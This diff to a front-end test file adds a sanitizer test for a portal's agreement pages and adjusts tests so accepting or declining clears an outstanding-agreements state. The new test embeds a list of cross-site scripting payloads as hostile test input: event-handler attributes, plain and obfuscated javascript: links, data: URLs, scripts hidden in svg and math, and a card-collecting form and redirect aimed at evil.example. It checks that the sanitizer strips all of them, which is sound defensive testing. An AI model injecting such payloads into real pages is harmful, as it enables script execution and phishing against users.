@@ -81,6 +81,74 @@ test('the script and onerror payloads of a page never reach the document', async
   expect(Reflect.get(window, '__agreementOnerrorRan')).toBeUndefined();
 });
 
+test('a hostile page keeps its text, headings, lists and https links, and nothing that runs', async () => {
+  const hostile = {
+    ...TERMS_OF_USE,
+    content: [
+      '<h1 onclick="window.__hostile = 1">Using your account</h1>' +
+        '<p onmouseover="window.__hostile = 2">Keep your <strong>password</strong> to yourself.</p>' +
+        '<ul><li>Sign out on shared devices.</li><li onclick="window.__hostile = 3">Tell us of misuse.</li></ul>' +
+        '<p><a href="https://example.com/terms" onclick="window.__hostile = 4">Full terms</a></p>' +
+        '<a href="javascript:window.__hostile = 5">Plain</a>' +
+        '<a href=" JaVaScRiPt:window.__hostile = 6">Mixed case</a>' +
+        '<a href="jav&#x09;ascript:window.__hostile = 7">Encoded</a>' +
+        '<a href="data:text/html,<script>window.__hostile = 8</script>">Data</a>' +
+        '<img src="x" onerror="window.__hostile = 9" alt="">' +
+        '<script>window.__hostile = 10;</script>' +
+        '<iframe src="https://evil.example" srcdoc="<script>window.__hostile = 11</script>"></iframe>' +
+        '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">' +
+        '<svg onload="window.__hostile = 12"><script>window.__hostile = 13</script></svg>' +
+        '<math><mtext><img src="x" onerror="window.__hostile = 14"></mtext></math>' +
+        '<style>body { display: none }</style><p style="position: fixed; inset: 0">Cover</p>' +
+        '<form action="https://evil.example"><input name="card"><button>Send</button></form>' +
+        '<meta http-equiv="refresh" content="0; url=https://evil.example">' +
+        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">' +
+        '<details open ontoggle="window.__hostile = 15"><summary>More</summary>Detail</details>',
+    ],
+  };
+  showAgreements({ network: agreementsNetwork([hostile]) });
+
+  const page = await screen.findByRole('article');
+  // What the provider meant: the text, its outline under the agreement's title, lists, links.
+  expect(
+    within(page).getByRole('heading', { level: 3, name: 'Using your account' }),
+  ).toBeInTheDocument();
+  expect(page).toHaveTextContent('Keep your password to yourself.');
+  expect(page.querySelector('strong')).toHaveTextContent('password');
+  expect(
+    within(page)
+      .getAllByRole('listitem')
+      .map((item) => item.textContent),
+  ).toEqual(['Sign out on shared devices.', 'Tell us of misuse.']);
+  const terms = within(page).getByRole('link', { name: 'Full terms' });
+  expect(terms).toHaveAttribute('href', 'https://example.com/terms');
+  expect(terms).toHaveAttribute('target', '_blank');
+  expect(terms).toHaveAttribute('rel', 'noopener noreferrer');
+  expect(page).toHaveTextContent('Cover');
+  expect(page).toHaveTextContent('Detail');
+
+  // Nothing that runs, loads elsewhere, restyles the portal or posts anywhere.
+  const content = page.querySelector('.agreement-page');
+  expect(content).not.toBeNull();
+  expect(
+    content!.querySelectorAll(
+      'script, iframe, object, embed, svg, math, style, form, input, button, meta, base, link',
+    ),
+  ).toHaveLength(0);
+  for (const element of Array.from(content!.querySelectorAll('*'))) {
+    for (const { name, value } of Array.from(element.attributes)) {
+      expect(name, `${element.tagName} ${name}`).not.toMatch(/^(on|style$|srcdoc$)/i);
+      expect(value.replace(/\s/g, ''), `${element.tagName} ${name}`).not.toMatch(
+        /^(javascript|data|vbscript):/i,
+      );
+    }
+  }
+  for (const link of within(page).queryAllByRole('link')) {
+    expect(link.getAttribute('href')).toMatch(/^https:\/\//);
+  }
+  expect(Reflect.get(window, '__hostile')).toBeUndefined();
+});
+
 test('Accept sends the ID, says so, and the information-only agreement ends the flow at home', async () => {
   const { navigate, network, notify, user } = showAgreements();
   await user.click(await screen.findByRole('button', { name: 'Next page' }));
@@ -107,9 +175,12 @@ test('Accept sends the ID, says so, and the information-only agreement ends the 
   expect(navigate).toHaveBeenCalledExactlyOnceWith('/');
 });
 
-test('done goes back to where the 499 interrupted the user', async () => {
+test('done goes back to where the 499 interrupted the user, no longer held', async () => {
   sessionStorage.setItem(AFTER_AGREEMENTS_KEY, '/policies/101?tab=inbox');
-  const { navigate, user } = showAgreements({ network: agreementsNetwork([NOTICE, TERMS_OF_USE]) });
+  const { navigate, portal, user } = showAgreements({
+    network: agreementsNetwork([NOTICE, TERMS_OF_USE]),
+  });
+  portal.session.getState().setAgreements('outstanding');
 
   // An information-only agreement with more to follow has Continue.
   await user.click(await screen.findByRole('button', { name: 'Continue' }));
@@ -118,6 +189,8 @@ test('done goes back to where the 499 interrupted the user', async () => {
 
   await waitFor(() => expect(navigate).toHaveBeenCalledWith('/policies/101?tab=inbox'));
   expect(sessionStorage.getItem(AFTER_AGREEMENTS_KEY)).toBeNull();
+  // The 499 is lifted: what waited on the agreements (the notifications) may ask now.
+  expect(portal.session.getState().agreements).toBe('none');
 });
 
 test("Accept shows the server's message when it gives one", async () => {
@@ -141,9 +214,10 @@ test("Accept shows the server's message when it gives one", async () => {
 test('Decline says so, and the flow ends on the declined page with the server message', async () => {
   const message =
     'You have declined the Policy Terms and Conditions. Please phone us on 0306 999 0123.';
-  const { navigate, network, notify, user } = showAgreements({
+  const { navigate, network, notify, portal, user } = showAgreements({
     network: agreementsNetwork().on(endpoints.declineAgreement, message),
   });
+  portal.session.getState().setAgreements('outstanding');
   await user.click(await screen.findByRole('button', { name: 'Next page' }));
   await user.click(button('Decline terms'));
 
@@ -162,6 +236,8 @@ test('Decline says so, and the flow ends on the declined page with the server me
   expect(navigate).toHaveBeenCalledExactlyOnceWith(
     `/agreements/declined?message=${encodeURIComponent(message).replace(/%20/g, '+')}`,
   );
+  // A decision either way lifts the 499 (portal.md §4).
+  expect(portal.session.getState().agreements).toBe('none');
 });
 
 test("a failure shows the server's message, else the spec's, and the user can try again", async () => {
